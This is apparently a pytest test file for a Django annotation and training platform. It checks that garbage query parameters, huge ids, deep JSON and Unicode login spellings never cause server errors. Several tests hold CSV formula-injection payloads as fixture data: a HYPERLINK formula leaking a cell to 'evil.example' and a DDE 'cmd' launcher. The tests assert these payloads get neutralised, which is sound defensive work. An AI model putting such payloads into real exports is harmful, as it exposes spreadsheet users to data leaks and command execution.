"""Bad input never answers 500: garbage query parameters, huge ids, open date ranges, deep JSON,
login spellings that fold to one account, spreadsheet formulas in CSV downloads."""

import csv
import datetime as dt
import io
import json

import pytest
from django.core.cache import cache
from django.test import override_settings
from django.utils import timezone

from annotator.csv_export import csv_lines, csv_safe
from annotator.dashboards.filters import (
    EARLIEST_DAY,
    LATEST_DAY,
    MAX_BUCKETS,
    MAX_ID,
    FilterError,
    Filters,
    as_id,
)
from annotator.dashboards.overview import _over_time, overview
from annotator.models import ImportJob, Label, Preference, Role, Task
from config import login_throttle
from training.models import DatasetSnapshot

from .conftest import make_conversation
from .test_eval_support import crafted_run, make_suite, model

pytestmark = pytest.mark.django_db

HUGE = "99999999999999999999"  # > 2**64: no backend stores it as an integer
GARBAGE = [HUGE, "-1", "0", "abc", "0001-01-01", "9999-12-31", "\x00", "1,2", "²", "x" * 5000]


@pytest.fixture(autouse=True)
def fresh_state(settings):
    settings.DASHBOARD_CACHE_SECONDS = 0
    cache.clear()


@pytest.fixture
def lead_client(client, members):
    client.force_login(members[Role.LEAD])
    client.raise_request_exception = False  # a 500 is a status to assert on, not an exception
    return client


@pytest.fixture
def labelled(project, members):
    """Two labels (one with a formula in its note) and a preference (a formula in its reason)."""
    conv, (r1, r2) = make_conversation(project, 1, n_responses=2)
    lab = Label.objects.create(
        response=r1,
        annotator=members[Role.ANNOTATOR],
        verdict="unreasonable",
        status="submitted",
        submitted_at=timezone.now(),
        time_spent_ms=1500,
        note="=1+1",
    )
    Label.objects.create(
        response=r2,
        annotator=members["annotator2"],
        verdict="reasonable",
        status="submitted",
        submitted_at=timezone.now(),
        time_spent_ms=2000,
        note="-2+3",
    )
    pref = Preference.objects.create(
        response_a=r1,
        response_b=r2,
        annotator=members[Role.ANNOTATOR],
        choice="a",
        status="submitted",
        submitted_at=timezone.now(),
        reason='=HYPERLINK("http://evil.example/?x="&A1,"click")',
    )
    return {"conversation": conv, "responses": (r1, r2), "label": lab, "preference": pref}


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


# --- 1. dashboards: huge ids, open date ranges -------------------------------------------------

DASH_PAGES = [
    "dashboards/",
    "dashboards/annotators/",
    "dashboards/agreement/",
    "dashboards/models/",
    "dashboards/cases/",
    "dashboards/comparisons/",
]
DASH_API = [
    "overview/",
    "annotators/",
    "agreement/",
    "models/",
    "cases/",
    "comparisons/",
    "cases.csv",
    "comparisons.csv",
    "overview/over_time.csv",
]


@pytest.mark.parametrize("param", ["annotator", "model", "category"])
def test_dashboard_huge_ids_are_a_message_on_pages_and_400_in_the_api(lead_client, project, labelled, param):
    for page in DASH_PAGES:
        res = lead_client.get(f"/p/{project.slug}/{page}", {param: HUGE})
        assert res.status_code == 200, page
        assert "Ignored filter" in res.content.decode() and "is not" in res.content.decode(), page
    for endpoint in DASH_API:
        res = lead_client.get(f"/api/projects/{project.slug}/dashboards/{endpoint}", {param: HUGE})
        assert res.status_code == 400, endpoint
        assert param in res.json()


@pytest.mark.parametrize("param", ["model_a", "model_b", "pair", "category_split", "page"])
def test_drill_down_lists_take_huge_ids(lead_client, project, labelled, param):
    value = f"{HUGE},1" if param == "pair" else HUGE
    for url in (
        f"/p/{project.slug}/dashboards/cases/",
        f"/p/{project.slug}/dashboards/comparisons/",
        f"/api/projects/{project.slug}/dashboards/cases/",
        f"/api/projects/{project.slug}/dashboards/comparisons/",
    ):
        res = lead_client.get(url, {param: value})
        assert res.status_code in (200, 400), url
    res = lead_client.get(f"/api/projects/{project.slug}/dashboards/comparisons/", {"model_a": HUGE})
    assert res.status_code == 400 and "model_a" in res.json()


def test_filter_dates_are_clamped_and_ids_bounded():
    f = Filters.parse({"from": "0001-01-01", "to": "9999-12-31"}, strict=True)
    assert (f.date_from, f.date_to) == (EARLIEST_DAY, LATEST_DAY)
    with pytest.raises(FilterError) as exc:
        Filters.parse({"annotator": HUGE, "model": f"1,{HUGE}", "category": "-3"}, strict=True)
    assert set(exc.value.errors) == {"annotator", "model", "category"}
    with pytest.raises(FilterError) as exc:
        Filters.parse({"split": "x" * 100_000}, strict=True)
    assert len(exc.value.errors["split"]) < 200  # the junk is not echoed back whole
    assert as_id(str(MAX_ID)) == MAX_ID and as_id(str(MAX_ID + 1)) is None


def test_huge_date_range_is_bounded_in_buckets_queries_and_size(
    lead_client, project, members, labelled, django_assert_max_num_queries
):
    """0001-01-01..9999-12-31 on a project with data over 26 years: monthly buckets, not 10,000 years of
    days."""
    old = Label.objects.get(pk=labelled["label"].pk)
    long_ago = timezone.make_aware(dt.datetime(2000, 1, 15, 12))
    type(project).objects.filter(pk=project.pk).update(created_at=long_ago)
    project.refresh_from_db()
    conv, (r,) = make_conversation(project, 2)
    Label.objects.create(
        response=r,
        annotator=members["annotator2"],
        verdict="unreasonable",
        status="submitted",
        submitted_at=long_ago,
        time_spent_ms=1000,
    )
    assert old.submitted_at.date() > dt.date(2020, 1, 1)

    data = overview(project, Filters.parse({"from": "0001-01-01", "to": "9999-12-31", "bucket": "day"}))
    over_time = data["over_time"]
    assert over_time["bucket"] == "month" and len(over_time["rows"]) <= MAX_BUCKETS
    assert over_time["rows"][0]["start"] == dt.date(2000, 1, 1)  # the project's first month, not year 1
    assert sum(r["labels"] for r in over_time["rows"]) == data["totals"]["labels"] == 3
    assert all(r["end"] == _month_end(r["start"]) for r in over_time["rows"])

    # before: 15-19 s and 57 MB for the overview page (a bucket per day since year 1)
    for url in [f"/p/{project.slug}/{page}" for page in DASH_PAGES] + [
        f"/api/projects/{project.slug}/dashboards/{endpoint}" for endpoint in DASH_API
    ]:
        with django_assert_max_num_queries(20):
            res = lead_client.get(url, {"from": "0001-01-01", "to": "9999-12-31"})
            body = _body(res)
        assert res.status_code == 200 and len(body) < 300_000, (url, len(body))
    rows = list(
        csv.reader(
            io.StringIO(
                _body(
                    lead_client.get(
                        f"/api/projects/{project.slug}/dashboards/overview/over_time.csv",
                        {"from": "0001-01-01", "to": "9999-12-31"},
                    )
                ).decode()
            )
        )
    )
    assert 1 < len(rows) <= 1 + MAX_BUCKETS * 2  # one "all" row and one per model version, per month


def _month_end(start):
    return (start.replace(day=28) + dt.timedelta(days=4)).replace(day=1) - dt.timedelta(days=1)


def test_bucket_sizes_grow_with_the_span():
    days = {
        dt.date(2001, 1, 1) + dt.timedelta(days=i): {"labels": {1: 1}, "bad": {}} for i in range(0, 9000, 3)
    }
    assert _over_time(days, [], Filters(bucket="day"))["bucket"] == "month"
    assert _over_time(days, [], Filters(bucket="year"))["bucket"] == "year"
    few = {dt.date(2026, 1, 1) + dt.timedelta(days=i): days[dt.date(2001, 1, 1)] for i in range(300)}
    assert _over_time(few, [], Filters(bucket="day"))["bucket"] == "day"
    assert _over_time(few, [], Filters())["bucket"] == "week"


# --- 2. run comparison --------------------------------------------------------------------------


@pytest.mark.parametrize("runs", [[HUGE], ["abc"], ["²"], ["1", HUGE], ["-1"]])  # NUL: a 400 before the view
def test_compare_with_bad_run_ids_is_a_message(lead_client, project, runs):
    res = lead_client.get(f"/p/{project.slug}/eval/compare/", {"runs": runs})
    assert res.status_code == 400
    assert "Cannot compare" in res.content.decode() and "not a run id" in res.content.decode()


def test_compare_caps_the_number_of_runs(lead_client, project):
    res = lead_client.get(f"/p/{project.slug}/eval/compare/", {"runs": [str(i) for i in range(1, 30)]})
    assert res.status_code == 400 and "at most" in res.content.decode()


# --- 3. deep JSON in the correction editor ------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "[" * 100_000,
        "[" * 100_000 + "]" * 100_000,
        '{"a":' * 5000,
        json.dumps([{"name": "check_inventory", "arguments": "[" * 100_000}]),
    ],
)
def test_check_correction_with_deeply_nested_json_is_a_message(client, project, members, text):
    _, (response, _) = make_conversation(project, 1, n_responses=2)
    task = Task.objects.create(project=project, kind="label", response=response)
    client.force_login(members[Role.ANNOTATOR])
    client.raise_request_exception = False
    res = client.post(
        f"/p/{project.slug}/tasks/{task.pk}/check-correction/",
        {"correction_content": "", "correction_tool_calls": text},
    )
    assert 200 <= res.status_code < 500
    assert "nested more than" in res.content.decode()


# --- 4. online DPO run form ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "field, value",
    [
        ("start_version", "abc"),
        ("start_version", HUGE),
        ("judge", "abc"),
        ("eval_suite", HUGE),
        ("start_version", "\x00"),
        ("name", "n" * 500),
    ],
)
def test_online_run_form_with_bad_ids_is_a_form_error(client, project, members, field, value):
    client.force_login(members[Role.ADMIN])
    client.raise_request_exception = False
    form = {
        "start_version": "",
        "ranker": "judge",
        "judge": "",
        "eval_suite": "",
        "rounds": "2",
        field: value,
    }
    res = client.post(f"/p/{project.slug}/training/online/new/", form)
    assert res.status_code == 422
    assert "Please fix the fields marked below" in res.content.decode()


# --- 5. login throttle keys on the account, not the spelling -------------------------------------


@override_settings(LOGIN_FAILURE_LIMIT=5, LOGIN_FAILURE_IP_LIMIT=1000)
def test_full_width_username_does_not_bypass_the_lockout(client, make_user):
    login_throttle.clear_all()
    make_user("victim")
    for _ in range(5):
        assert client.post("/accounts/login/", {"username": "victim", "password": "wrong"}).status_code == 200
    res = client.post("/accounts/login/", {"username": "ｖｉｃｔｉｍ", "password": "pw-victim"})
    assert res.status_code == 429 and "_auth_user_id" not in client.session
    assert (
        client.post("/api/auth/token/", {"username": "ＶＩＣＴＩＭ", "password": "pw-victim"}).status_code
        == 429
    )
    login_throttle.clear_all()


@override_settings(LOGIN_FAILURE_LIMIT=5, LOGIN_FAILURE_IP_LIMIT=1000)
def test_api_token_failures_count_for_every_spelling(client, make_user):
    login_throttle.clear_all()
    make_user("victim")
    for spelling in ("ｖｉｃｔｉｍ", "VICTIM", " victim ", "ｖｉｃｔｉｍ", "Victim"):
        assert client.post("/api/auth/token/", {"username": spelling, "password": "wrong"}).status_code == 400
    assert client.post("/api/auth/token/", {"username": "victim", "password": "pw-victim"}).status_code == 429
    assert client.post("/accounts/login/", {"username": "victim", "password": "pw-victim"}).status_code == 429
    login_throttle.clear_all()


def test_username_normalisation():
    norm = login_throttle.normalise_username
    assert norm("ｖｉｃｔｉｍ") == norm("VICTIM") == norm(" victim ") == norm("victim\u3000") == "victim"
    assert norm("Straße") == norm("STRASSE")


# --- 6. spreadsheet formulas in CSV downloads ----------------------------------------------------


def test_csv_safe_neutralises_formula_strings_only():
    for text in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://x")'):
        assert csv_safe(text) == "'" + text
    for value in ("plain", "", "1=1", "a-b", -3, -0.25, 0, None, 1.5):
        assert csv_safe(value) == value
    assert list(csv.reader(io.StringIO("".join(csv_lines(["h"], [[-1.5, "-1.5"]]))))) == [
        ["h"],
        ["-1.5", "'-1.5"],
    ]


def test_cases_and_comparisons_csv_neutralise_formulas(lead_client, project, labelled):
    rows = list(
        csv.DictReader(
            io.StringIO(
                _body(
                    lead_client.get(f"/api/projects/{project.slug}/dashboards/cases.csv", {"status": "all"})
                ).decode()
            )
        )
    )
    notes = {r["note"] for r in rows}
    assert notes == {"'=1+1", "'-2+3"}
    assert {r["time_spent_s"] for r in rows} == {"1.5", "2.0"}
    rows = list(
        csv.DictReader(
            io.StringIO(
                _body(lead_client.get(f"/api/projects/{project.slug}/dashboards/comparisons.csv")).decode()
            )
        )
    )
    assert [r["reason"] for r in rows] == ["'" + labelled["preference"].reason]


def test_chart_table_csv_neutralises_formulas_in_names(lead_client, project, members, labelled):
    mv = labelled["responses"][0].model_version
    type(mv).objects.filter(pk=mv.pk).update(name="=cmd|' /C calc'!A0")
    body = _body(lead_client.get(f"/api/projects/{project.slug}/dashboards/overview/by_model.csv")).decode()
    names = [r["model_version"] for r in csv.DictReader(io.StringIO(body))]
    assert names == ["'=cmd|' /C calc'!A0"]


# --- every page with query parameters, as a lead, with garbage -----------------------------------


@pytest.fixture
def world(project, members, labelled, tmp_path, settings):
    settings.MEDIA_ROOT = str(tmp_path)
    suite = make_suite(project, 4)
    base = model(project, "base", origin="base")
    run = crafted_run(project, suite, base, {1, 2})
    job = ImportJob.objects.create(
        project=project, created_by=members[Role.ADMIN], file="imports/x.jsonl", original_name="x.jsonl"
    )
    (tmp_path / "datasets").mkdir()
    (tmp_path / "datasets" / "x.jsonl").write_text("")
    snap = DatasetSnapshot.objects.create(
        project=project,
        kind="sft",
        version=1,
        layout="trl_messages",
        status=DatasetSnapshot.State.READY,
        file="datasets/x.jsonl",
        row_count=0,
    )
    task = Task.objects.create(project=project, kind="label", response=labelled["responses"][0])
    case = run.suite.cases.first()
    return {
        "conv": labelled["conversation"].pk,
        "job": job.pk,
        "snap": snap.pk,
        "task": task.pk,
        "suite": suite.pk,
        "run": run.pk,
        "case": case.pk,
        "mv": base.pk,
    }


PAGES_WITH_PARAMS = {
    "/p/{slug}/": [],
    "/p/{slug}/conversations/": ["split", "page"],
    "/p/{slug}/conversations/{conv}/": [],
    "/p/{slug}/imports/{job}/": ["page"],
    "/p/{slug}/next/": ["kind"],
    "/p/{slug}/tasks/{task}/": ["kind"],
    "/p/{slug}/review/": ["what", "page", "view", "at", "annotator", "category", "verdict", "disagreement"],
    "/p/{slug}/review/bulk-approve/": ["what", "annotator", "category", "verdict", "disagreement"],
    "/p/{slug}/disagreements/": ["page"],
    "/p/{slug}/assign/": ["page"],
    "/p/{slug}/dashboards/": [
        "model",
        "from",
        "to",
        "annotator",
        "split",
        "status",
        "bucket",
        "category",
        "fresh",
    ],
    "/p/{slug}/dashboards/annotators/": ["model", "from", "to", "annotator", "status"],
    "/p/{slug}/dashboards/agreement/": ["model", "from", "to", "annotator", "category"],
    "/p/{slug}/dashboards/models/": ["model", "from", "to", "annotator", "split"],
    "/p/{slug}/dashboards/cases/": [
        "page",
        "verdict",
        "category",
        "direct",
        "pair",
        "disagree",
        "category_split",
        "gold",
        "from",
        "to",
        "annotator",
        "model",
    ],
    "/p/{slug}/dashboards/comparisons/": ["page", "model_a", "model_b", "outcome", "from", "to", "annotator"],
    "/p/{slug}/datasets/": ["kind", "page"],
    "/p/{slug}/datasets/new/": ["from"],
    "/p/{slug}/datasets/count/": ["kind", "split", "status", "from", "to"],
    "/p/{slug}/datasets/{snap}/": ["page"],
    "/p/{slug}/datasets/{snap}/audit/": ["page"],
    "/p/{slug}/eval/": ["page"],
    "/p/{slug}/eval/suites/{suite}/": ["category", "page"],
    "/p/{slug}/eval/runs/new/": ["suite", "model_version"],
    "/p/{slug}/eval/runs/{run}/": ["part"],
    "/p/{slug}/eval/runs/{run}/cases/": ["show", "defect", "category", "depth", "page"],
    "/p/{slug}/eval/runs/{run}/cases/{case}/": ["show", "defect", "category", "depth"],
    "/p/{slug}/eval/compare/": ["runs", "order"],
    "/p/{slug}/eval/models/{mv}/": ["suite"],
    "/p/{slug}/training/": ["page", "stage"],
    "/p/{slug}/training/new/": ["stage", "base_version", "train_snapshot", "preset"],
    "/p/{slug}/training/online/": ["page"],
    "/p/{slug}/training/online/new/": [],
    "/p/{slug}/training/judges/": ["page"],
}


@pytest.mark.parametrize("url", list(PAGES_WITH_PARAMS))
def test_every_page_survives_garbage_query_parameters(client, project, members, world, url):
    path = url.format(slug=project.slug, **world)
    failures = []
    for who in (Role.LEAD, Role.ADMIN):
        client.force_login(members[who])
        client.raise_request_exception = False
        for param in PAGES_WITH_PARAMS[url] or ["page"]:
            for value in GARBAGE:
                res = client.get(path, {param: value}, HTTP_HX_REQUEST="true" if param == "part" else "")
                if res.status_code >= 500:
                    failures.append((who, param, value[:20], res.status_code))
    assert not failures


PATHS_WITH_IDS = [
    "/p/{slug}/conversations/{pk}/",
    "/p/{slug}/imports/{pk}/",
    "/p/{slug}/imports/{pk}/report.csv",
    "/p/{slug}/tasks/{pk}/",
    "/p/{slug}/datasets/{pk}/",
    "/p/{slug}/datasets/{pk}/audit/",
    "/p/{slug}/eval/suites/{pk}/",
    "/p/{slug}/eval/runs/{pk}/",
    "/p/{slug}/eval/runs/{pk}/cases/",
    "/p/{slug}/eval/runs/{pk}/cases/{pk}/",
    "/p/{slug}/eval/models/{pk}/",
    "/p/{slug}/eval/runs/{pk}/results.jsonl",
    "/p/{slug}/training/{pk}/",
    "/p/{slug}/training/online/{pk}/",
]


@pytest.mark.parametrize("url", PATHS_WITH_IDS)
def test_huge_ids_in_paths_are_not_found(client, project, members, url):
    client.force_login(members[Role.ADMIN])
    client.raise_request_exception = False
    assert client.get(url.format(slug=project.slug, pk=HUGE)).status_code == 404


def test_import_report_csv_neutralises_formulas(client, project, members):
    """The import report repeats schema messages and field names: a cell starting with '-' or '=' is
    quoted."""
    from annotator.models import ImportJob

    client.force_login(members[Role.ADMIN])
    job = ImportJob.objects.create(project=project, original_name="in.jsonl", size_bytes=1, status="done")
    job.issues.create(line=3, field="=cmd|' /C calc'!A0", message="-5 is less than the minimum of 1")
    for url in (f"/p/{job.project.slug}/imports/{job.pk}/report.csv", f"/api/imports/{job.pk}/report/"):
        body = b"".join(client.get(url).streaming_content).decode()
        assert "'=cmd" in body and "'-5 is less" in body and "\n=cmd" not in body, url


def test_a_nul_character_in_a_query_parameter_is_a_400_on_pages_and_api(lead_client, project):
    """PostgreSQL cannot hold NUL in text: found on the eval suite page's JSON category filter."""
    for url in (f"/p/{project.slug}/eval/suites/1/?category=%00x", "/api/labels/?status=%00"):
        res = lead_client.get(url)
        assert res.status_code == 400 and b"NUL" in res.content, url
